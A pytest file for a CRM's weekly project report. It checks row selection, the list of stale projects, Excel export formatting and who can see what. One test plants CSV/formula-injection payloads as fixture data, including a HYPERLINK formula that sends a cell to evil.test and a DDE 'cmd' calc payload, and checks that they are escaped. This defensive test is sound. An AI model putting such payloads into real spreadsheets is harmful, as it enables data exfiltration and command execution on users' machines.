"""The weekly project report (周报): its rows on the hand-built week of helpers.py, the no-update list with and
without reasons, the .xlsx read back (sheets, Chinese headers, frozen header, A4 landscape), formula-injection
safety, and who sees what."""
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from crm.extensions import db
from crm.reports import weekly
from crm.reports.weekly import ROW_CAP

from ..factories import make_company, make_contact
from .helpers import FRIDAY, names, project, world


@pytest.fixture
def w(app):
    return world()


def report(viewer, when=FRIDAY):
    return weekly.weekly_report(viewer, week=when.date(), now=when)


def test_the_table_holds_key_projects_and_the_weeks_movers_key_first_then_furthest_along(w):
    r = report(w.manager)
    assert r.key == "2025-W11" and r.week.start.isoformat() == "2025-03-10"
    # key: P9 under construction, P1 signed, P5 negotiating; then P4 site visit, P2 negotiating, P10 lead (created
    # this week). Left out: P3 (quiet, not key), P6 (key but lost), P7 (deleted), P8 (done), P11 (met last week),
    # P12 (its meeting is tomorrow)
    assert names(r.rows) == ["节点项目丙", "连接器扩产项目", "星河计划项目", "考察项目乙", "精密模具项目", "本周新线索"]
    assert r.rows_total == 6 and r.key_projects == 3


def test_a_row_has_the_bureaus_columns(w):
    row = next(r for r in report(w.manager).rows if r.name == "连接器扩产项目")
    assert row.investor == "华信电子有限公司"
    assert row.fixed_asset_investment == Decimal("8000") and row.land_mu == Decimal("120.5")
    assert row.content == "年产500万套连接器"
    assert (row.park, row.cluster) == ("敦厚园区", "电子信息")
    # the company's main contact is the first one entered, in full for a manager
    assert row.contact == "王经理 总经理 13812348123"
    # progress: the stage, then the latest meeting and the latest stage move, newest first
    assert row.progress == "签约\n2025-01-10 拜访：洽谈用地\n2024-12-20 洽谈→签约：签订投资协议"
    assert row.key_project and row.owner == "张三"


def test_progress_of_this_weeks_meeting_and_move(w):
    rows = {r.name: r for r in report(w.manager).rows}
    assert rows["精密模具项目"].progress == "洽谈\n2025-03-12 拜访：确认设备进场时间；下一步：签补充协议"
    assert rows["考察项目乙"].progress == "考察\n2025-03-11 线索→考察：考察园区"
    assert rows["本周新线索"].progress == "线索"  # its creation is not a move
    assert rows["本周新线索"].park == "未定"  # the park is not decided yet


def test_an_officer_sees_only_their_scope_and_masked_phones_of_companies_they_do_not_hold(w):
    r = report(w.a)
    # team 2's confidential project is neither listed nor counted
    assert "星河计划项目" not in names(r.rows) and r.rows_total == 5
    rows = {r.name: r for r in r.rows}
    assert rows["连接器扩产项目"].contact == "王经理 总经理 13812348123"  # a holds the company
    assert rows["精密模具项目"].contact == "陈总 139****1111"  # b's company: masked, as on its page
    # the other team's officer sees the secret project of their own team, the company's name and its contact
    mine = {r.name: r for r in report(w.b).rows}
    assert mine["星河计划项目"].investor == "深圳机密科技有限公司"


def test_a_confidential_project_seen_without_its_company_shows_the_code_name_and_no_contact(w):
    # a teammate of b's holds nothing of the secret company, but sees the team's secret project
    from ..factories import make_user

    teammate = make_user(team=w.team2, name="王五")
    w.c3.owner_id = w.a.id  # the company is now held by someone outside team 2: hidden from the teammate
    db.session.commit()
    row = next(r for r in report(teammate).rows if r.project_id == w.p5.id)
    assert row.investor == "星河计划" and row.contact == ""


def test_the_no_update_list_with_and_without_reasons(w):
    r = report(w.manager)
    # stale: no activity for 30 days, not done or lost; key first, then the longest silent
    assert names(r.stale) == ["连接器扩产项目", "节点项目丙", "线索项目甲"]
    rows = {s.name: s for s in r.stale}
    assert rows["连接器扩产项目"].reason == "企业等待董事会审议"
    assert rows["连接器扩产项目"].reason_given.isoformat() == "2025-03-09"
    assert (rows["连接器扩产项目"].idle_days, rows["连接器扩产项目"].last_activity.isoformat()) == (40, "2025-02-02")
    # P9's reason was given for an earlier silence (before its last activity): it no longer counts
    assert rows["节点项目丙"].reason == "" and rows["节点项目丙"].cells(2)[7] == "未说明原因"
    assert rows["线索项目甲"].reason == "" and rows["线索项目甲"].idle_days == 45
    assert (r.stale_total, r.stale_with_reason, r.stale_without_reason) == (3, 1, 2)


def test_a_reason_stops_counting_when_the_project_has_news(w):
    from crm.projects.services import no_update_reason, note_activity

    note_activity(w.p1.id, FRIDAY - timedelta(days=10))  # a meeting logged late, dated before the reason
    db.session.commit()
    p1 = db.session.get(type(w.p1), w.p1.id)
    assert no_update_reason(p1) == "" and p1.no_update_reason == "企业等待董事会审议"  # the text stays, spent
    assert "连接器扩产项目" not in names(report(w.manager).stale)  # and it has news now


def test_the_workbook_reads_back_with_chinese_headers_a_frozen_header_and_a4_landscape(w):
    r = report(w.manager)
    book = load_workbook(io.BytesIO(weekly.workbook(r)))
    assert book.sheetnames == ["周报", "超30天未更新"]
    table, stale = book["周报"], book["超30天未更新"]
    assert [c.value for c in table[3]] == ["序号", "项目名称", "投资方", "固定资产投资（万元）", "项目内容",
                                          "用地需求（亩）", "联系人", "拟落户园区", "项目进展", "产业集群",
                                          "重点项目", "责任人"]
    assert table["A1"].value == "招商项目周报（2025-03-10 至 2025-03-14）"
    first = [c.value for c in table[4]]
    assert first[:4] == [1, "节点项目丙", "东莞精密有限公司", None]
    p1 = [c.value for c in table[5]]
    assert p1[1:8] == ["连接器扩产项目", "华信电子有限公司", 8000, "年产500万套连接器", 120.5,
                       "王经理 总经理 13812348123", "敦厚园区"]
    assert table.cell(5, 4).number_format == "#,##0.00"
    assert table.max_row == 3 + 6
    assert [c.value for c in stale[3]][:8] == ["序号", "项目名称", "投资方", "阶段", "责任人", "最后更新", "未更新天数",
                                               "未更新原因"]
    assert [stale.cell(n, 8).value for n in (4, 5, 6)] == ["企业等待董事会审议", "未说明原因", "未说明原因"]
    for sheet in (table, stale):
        assert sheet.freeze_panes == "A4"
        assert sheet.print_title_rows == "$3:$3"
        assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9  # A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
        assert all(sheet.column_dimensions[col].width >= 6 for col in "ABCDEFGHIJ")
    assert table.column_dimensions["I"].width > table.column_dimensions["B"].width  # progress gets the room


def test_formula_like_text_stays_text_in_the_workbook(w):
    evil = make_company("=HYPERLINK(\"http://evil.test?x=\"&A2,\"click\")", owner=w.a)
    make_contact(evil, name="@SUM(1+1)", mobile="13811112222")
    project(w.a, evil, "+cmd|' /C calc'!A0", key=True, stage="negotiating", description="-2+3",
            last=FRIDAY - timedelta(days=40), reason="=1+1", reason_at=FRIDAY - timedelta(days=1),
            fixed_asset_investment=Decimal("-5"))
    book = load_workbook(io.BytesIO(weekly.workbook(report(w.manager))))
    texts = [c for row in book["周报"].iter_rows() for c in row if isinstance(c.value, str)] + \
        [c for row in book["超30天未更新"].iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in texts)
    values = {c.value for c in texts}
    assert {"'+cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.test?x=\"&A2,\"click\")", "'-2+3",
            "'@SUM(1+1) 13811112222", "'=1+1"} <= values
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
    # a real negative number stays a number
    assert any(c.value == -5 for row in book["周报"].iter_rows() for c in row)


def test_a_past_week_counts_its_own_activity(w):
    last_week = report(w.manager, FRIDAY - timedelta(days=7))
    assert last_week.key == "2025-W10"
    # P11 met on Friday 7 March; the key projects are always there
    assert "上周洽谈项目" in names(last_week.rows) and "精密模具项目" not in names(last_week.rows)
    past = weekly.weekly_report(w.manager, week=(FRIDAY - timedelta(days=7)).date(), now=FRIDAY)
    assert past.until == past.week.ends_before() and "上周洽谈项目" in names(past.rows)


def test_the_lists_stop_at_the_cap_and_say_how_many_there_are(w, monkeypatch):
    monkeypatch.setattr(weekly, "ROW_CAP", 2)
    r = report(w.manager)
    assert len(r.rows) == 2 and r.rows_total == 6 and len(r.stale) == 2 and r.stale_total == 3
    book = load_workbook(io.BytesIO(weekly.workbook(r)))
    assert "共 6 项" in book["周报"]["A2"].value
    assert ROW_CAP == 2000


def test_an_empty_week_still_makes_a_report(app):
    from ..factories import make_user

    manager = make_user("manager")
    r = report(manager)
    assert r.rows == [] and r.stale == []
    book = load_workbook(io.BytesIO(weekly.workbook(r)))
    assert book["周报"]["A4"].value == "本周无项目进展"
    assert book["超30天未更新"]["A4"].value == "无超期未更新的项目"


def test_parse_week():
    assert weekly.parse_week("2025-W11").isoformat() == "2025-03-10"
    assert weekly.parse_week("2020-W53").isoformat() == "2020-12-28"
    for bad in ("2025-W54", "2025-11", "", None, "2025-W1", "abcd-W11", "2025-W00"):
        assert weekly.parse_week(bad) is None
